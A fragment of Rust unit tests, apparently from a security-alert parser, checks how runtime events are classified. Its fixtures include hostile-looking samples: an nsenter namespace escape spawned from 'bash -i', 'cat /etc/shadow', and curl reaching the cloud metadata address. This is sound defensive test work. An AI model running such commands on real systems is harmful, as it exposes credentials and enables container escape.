        assert_eq!(e.get(Attr::Syscall).unwrap().text, "setns");
        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("nsenter"));
        assert_eq!(e.get(Attr::ParentCommandLine).unwrap().text, "bash -i");
        assert_eq!(e.kind, EventKind::ProcessCreation);
        assert_eq!(e.platform(), Platform::Unix);
        let open = Event::of(&alert(json!({"evt.type": "openat", "fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow"})));
        assert_eq!(open.kind, EventKind::File);
        assert_eq!(open.get(Attr::FilePath).unwrap().text, "/etc/shadow");
        let conn = Event::of(&alert(json!({"evt.type": "connect", "fd.name": "10.0.0.5:43210->169.254.169.254:80", "proc.cmdline": "curl x"})));
        assert_eq!(conn.kind, EventKind::Network);
        assert!(conn.get(Attr::FilePath).is_none(), "a socket's endpoints are not a file path");
    }

    #[test]
    fn image_falls_back_to_the_command_lines_first_word() {
        let e = Event::of(&alert(json!({"process": "\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\Users"})));
        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("7z"));
        assert_eq!(binary_name("/usr/bin/curl"), "curl");
    }
}
